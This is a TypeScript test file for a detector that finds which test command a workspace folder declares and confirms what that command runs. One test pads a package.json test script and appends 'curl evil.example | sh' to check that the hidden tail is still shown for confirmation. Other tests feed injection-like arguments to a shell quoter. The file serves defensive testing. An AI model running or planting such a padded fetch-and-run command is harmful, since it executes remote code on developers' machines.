/** Which check a workspace folder declares (tasks/checking/detect.ts, issue 37). */
import * as assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { spawnSync } from 'node:child_process';
import { DETECT_MAX_BYTES, declaredRuns, detectChecks, shellQuote, testTaskCommand } from '../../src/tasks/checking/detect';

describe('checking: which check a folder declares', () => {
  let root: string;
  let n = 0;
  before(() => {
    root = fs.mkdtempSync(path.join(os.tmpdir(), 'mat-detect-'));
  });
  after(() => fs.rmSync(root, { recursive: true, force: true }));

  /** A fresh folder holding `files`. */
  function folder(files: Record<string, string | Buffer>): string {
    const dir = path.join(root, String(n++));
    for (const [name, text] of Object.entries(files)) {
      fs.mkdirSync(path.dirname(path.join(dir, name)), { recursive: true });
      fs.writeFileSync(path.join(dir, name), text);
    }
    fs.mkdirSync(dir, { recursive: true });
    return dir;
  }
  const pkg = (scripts: Record<string, string>, extra: object = {}) => JSON.stringify({ name: 'x', scripts, ...extra });
  const commands = async (dir: string) => (await detectChecks(dir)).map(c => `${c.from} ${c.file}: ${c.command}`);

  it('package.json test script, run by the package manager its lock file names', async () => {
    assert.deepEqual(await commands(folder({ 'package.json': pkg({ test: 'node --test' }) })), ['packageJson package.json: npm test']);
    assert.deepEqual(await commands(folder({ 'package.json': pkg({ test: 'vitest run' }), 'pnpm-lock.yaml': '' })), ['packageJson package.json: pnpm test']);
    assert.deepEqual(await commands(folder({ 'package.json': pkg({ test: 'jest' }), 'yarn.lock': '' })), ['packageJson package.json: yarn test']);
    // bun only without an npm lock; `bun run test` runs the script (`bun test` would run bun's own runner instead).
    assert.deepEqual(await commands(folder({ 'package.json': pkg({ test: 'x' }), 'bun.lockb': '' })), ['packageJson package.json: bun run test']);
    assert.deepEqual(await commands(folder({ 'package.json': pkg({ test: 'x' }), 'bun.lockb': '', 'package-lock.json': '{}' })), ['packageJson package.json: npm test']);
    // The packageManager field wins over lock files.
    assert.deepEqual(await commands(folder({ 'package.json': pkg({ test: 'x' }, { packageManager: 'yarn@4.1.0' }), 'pnpm-lock.yaml': '' })), ['packageJson package.json: yarn test']);
  });

  it('skips npm\'s placeholder, a missing or empty script, invalid JSON, a too large file, a folder named package.json', async () => {
    assert.deepEqual(await commands(folder({ 'package.json': pkg({ test: 'echo "Error: no test specified" && exit 1' }) })), []);
    assert.deepEqual(await commands(folder({ 'package.json': pkg({ build: 'tsc' }) })), []);
    assert.deepEqual(await commands(folder({ 'package.json': pkg({ test: '  ' }) })), []);
    assert.deepEqual(await commands(folder({ 'package.json': '{"scripts": {"test": "x"' })), []);
    assert.deepEqual(await commands(folder({ 'package.json': '[1, 2]' })), []);
    const large = pkg({ test: 'node --test' }, { pad: 'x'.repeat(DETECT_MAX_BYTES) });
    assert.deepEqual(await commands(folder({ 'package.json': large })), []);
    // Over the bound even where its first bytes would declare a check.
    assert.deepEqual(await commands(folder({ 'pyproject.toml': `[tool.pytest.ini_options]\n${'#'.repeat(DETECT_MAX_BYTES)}\n` })), []);
    assert.deepEqual(await commands(folder({ 'pyproject.toml': `[tool.pytest.ini_options]\n${'#'.repeat(DETECT_MAX_BYTES - 100)}\n` })), ['pytest pyproject.toml: python -m pytest']);
    assert.deepEqual(await commands(folder({ 'package.json/inner': 'x' })), []);
    assert.deepEqual(await commands(path.join(root, 'no such folder')), []);
  });

  it('an unreadable package.json is skipped, not thrown', async function () {
    if (process.platform === 'win32' || process.getuid?.() === 0) this.skip();
    const dir = folder({ 'package.json': pkg({ test: 'node --test' }), 'go.mod': 'module example.com/x\n' });
    fs.chmodSync(path.join(dir, 'package.json'), 0o000);
    assert.deepEqual(await commands(dir), ['goTest go.mod: go test ./...']);
  });

  it('issue 44: a FIFO named package.json or pytest.ini is passed over, not opened (it would wait for a writer for ever)', async function () {
    if (process.platform === 'win32') this.skip();
    const dir = folder({ 'go.mod': 'module x\n' });
    for (const name of ['package.json', 'pytest.ini']) assert.equal(spawnSync('mkfifo', [path.join(dir, name)]).status, 0);
    // Were a FIFO opened, this would never settle: mocha's timeout would fail it.
    assert.deepEqual(await commands(dir), ['goTest go.mod: go test ./...']);
    assert.equal(await declaredRuns(dir, 'package.json'), undefined);
  });

  it('issue 44: what a test script runs is confirmed whole: pretest, test, posttest and the settings that change how they run', async () => {
    const padded = `node --test${' '.repeat(600)}&& curl evil.example | sh`;
    const dir = folder({
      'package.json': pkg({ pretest: 'node setup.js', test: padded, posttest: 'node report.js', build: 'tsc' }),
      '.npmrc': 'registry=https://registry.example\nscript-shell=/bin/zsh\nnode-options=--require ./hook.js\n',
    });
    const runs = (await declaredRuns(dir, 'package.json'))!;
    assert.deepEqual(runs.split('\n'), ['pretest: node setup.js', `test: ${padded}`, 'posttest: node report.js', '.npmrc: script-shell=/bin/zsh', '.npmrc: node-options=--require ./hook.js']);
    assert.ok(runs.includes('curl evil.example'), 'nothing after 500 characters is cut');
    // Any change of what runs changes what is confirmed (and its hash): a new posttest asks again.
    fs.writeFileSync(path.join(dir, 'package.json'), pkg({ pretest: 'node setup.js', test: padded, posttest: 'node other.js' }));
    assert.notEqual(await declaredRuns(dir, 'package.json'), runs);
  });

  it('pytest: pytest.ini, [tool.pytest…] in pyproject.toml, [tool:pytest] / [pytest] sections, conftest.py', async () => {
    const one = async (files: Record<string, string>) => (await detectChecks(folder(files))).map(c => `${c.from} ${c.command} (${c.file})`);
    assert.deepEqual(await one({ 'pytest.ini': '[pytest]\n' }), ['pytest python -m pytest (pytest.ini)']);
    assert.deepEqual(await one({ 'pyproject.toml': '[project]\nname = "x"\n\n[tool.pytest.ini_options]\naddopts = "-q"\n' }), ['pytest python -m pytest (pyproject.toml)']);
    assert.deepEqual(await one({ 'pyproject.toml': '[project]\nname = "x"\n[tool.black]\n' }), []);
    assert.deepEqual(await one({ 'setup.cfg': '[metadata]\nname = x\n[tool:pytest]\ntestpaths = tests\n' }), ['pytest python -m pytest (setup.cfg)']);
    assert.deepEqual(await one({ 'setup.cfg': '[metadata]\nname = x\n' }), []);
    assert.deepEqual(await one({ 'tox.ini': '[tox]\nenvlist = py311\n[pytest]\n' }), ['pytest python -m pytest (tox.ini)']);
    assert.deepEqual(await one({ 'tox.ini': '[tox]\nenvlist = py311\n' }), []);
    assert.deepEqual(await one({ 'conftest.py': 'import pytest\n' }), ['pytest python -m pytest (conftest.py)']);
  });

  it('go.mod and Cargo.toml (valid ones), in the declared order after package.json and pytest', async () => {
    const dir = folder({
      'Cargo.toml': '[package]\nname = "x"\nversion = "0.1.0"\n',
      'go.mod': '// comment\nmodule example.com/x\n\ngo 1.22\n',
      'pytest.ini': '',
      'package.json': pkg({ test: 'mocha' }),
    });
    assert.deepEqual(await commands(dir), [
      'packageJson package.json: npm test',
      'pytest pytest.ini: python -m pytest',
      'goTest go.mod: go test ./...',
      'cargoTest Cargo.toml: cargo test',
    ]);
    assert.deepEqual(await commands(folder({ 'go.mod': 'not a module file' })), []);
    assert.deepEqual(await commands(folder({ 'Cargo.toml': '# nothing\n' })), []);
    assert.deepEqual(await commands(folder({ 'Cargo.toml': '[workspace]\nmembers = ["a"]\n' })), ['cargoTest Cargo.toml: cargo test']);
  });

  describe('a VS Code task as one command line', () => {
    it('shell and process tasks with their arguments, quoted for a POSIX shell where needed', () => {
      assert.equal(testTaskCommand({ type: 'shell', command: 'npm run test:unit' }), 'npm run test:unit');
      assert.equal(testTaskCommand({ type: 'shell', command: 'pytest', args: ['-k', 'not slow', 'tests/'] }), "pytest -k 'not slow' tests/");
      assert.equal(testTaskCommand({ type: 'process', command: '/opt/my tools/run', args: ['--grep', "it's"] }), "'/opt/my tools/run' --grep 'it'\\''s'");
      assert.equal(testTaskCommand({ type: 'process', command: 'node', args: ['--test', { value: 'a b.test.js', quoting: 'escape' }] }), "node --test 'a b.test.js'");
      assert.equal(testTaskCommand({ type: 'shell', command: { value: 'make', quoting: 'strong' }, args: ['test', '$HOME', 'a;b', '--x=1'] }), "make test '$HOME' 'a;b' --x=1");
      assert.equal(testTaskCommand({ type: 'shell', command: 'x', args: [''] }), "x ''");
    });

    it('npm tasks run their script; other types, a missing command, or a non-string argument give nothing', () => {
      assert.equal(testTaskCommand({ type: 'npm', script: 'test' } as never), 'npm run test');
      assert.equal(testTaskCommand({ type: 'npm', script: 'test:unit watch' } as never), "npm run 'test:unit watch'");
      assert.equal(testTaskCommand({ type: 'npm' }), undefined);
      assert.equal(testTaskCommand({ type: 'gulp', command: 'test' }), undefined);
      assert.equal(testTaskCommand({ command: 'test' }), undefined);
      assert.equal(testTaskCommand({ type: 'shell' }), undefined);
      assert.equal(testTaskCommand({ type: 'shell', command: '   ' }), undefined);
      assert.equal(testTaskCommand({ type: 'shell', command: 'x', args: 'not an array' }), undefined);
      assert.equal(testTaskCommand({ type: 'shell', command: 'x', args: [1] }), undefined);
    });

    it('a quoted line reads back in a real shell as the same arguments', function () {
      if (process.platform === 'win32') this.skip();
      const args = ['plain', 'two words', "it's", '$HOME', '`id`', 'a;b|c&d', '*', '~', 'back\\slash', '"q"', '!bang', ''];
      const line = `printf '%s\\n' ${args.map(shellQuote).join(' ')}`;
      const printed = execFileSync('/bin/sh', ['-c', line], { encoding: 'utf8' });
      assert.deepEqual(printed.split('\n').slice(0, -1), args);
    });
  });
});
